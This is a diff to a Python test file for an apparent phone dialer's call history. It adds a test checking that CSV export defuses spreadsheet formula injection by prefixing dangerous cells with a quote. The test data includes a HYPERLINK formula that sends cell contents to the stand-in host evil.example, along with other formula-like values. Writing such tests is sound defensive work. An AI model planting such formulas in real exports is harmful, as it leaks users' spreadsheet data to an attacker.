@@ -113,3 +113,22 @@ def test_recent_numbers_are_distinct_and_newest_first(history: HistoryStore) -> 
         history.add(_row(i, destination=number))
     assert history.recent_numbers(limit=2) == ["+3", "+1"]
     assert history.recent_numbers() == ["+3", "+1", "+2"]
+
+
+def test_a_history_export_never_carries_a_live_spreadsheet_formula(history: HistoryStore, tmp_path: object) -> None:
+    import csv
+    from pathlib import Path
+
+    from dialer.store.exporting import export_history_csv
+
+    history.add(_row(1, display_name='=HYPERLINK("http://evil.example/?"&A1,"Call me")'))
+    history.add(_row(2, display_name="@SUM(1+1)", error="-2+3"))
+    history.add(_row(3, display_name="Ada Lovelace"))
+    path = Path(str(tmp_path)) / "calls.csv"
+    assert export_history_csv(history, path) == 3
+    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
+    names = [r["display_name"] for r in rows]
+    assert names == ["Ada Lovelace", "'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?"&A1,"Call me")']
+    assert rows[1]["error"] == "'-2+3"
+    assert all(r["destination"].startswith("'+44") for r in rows)  # stays a phone number, not 442079460001
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
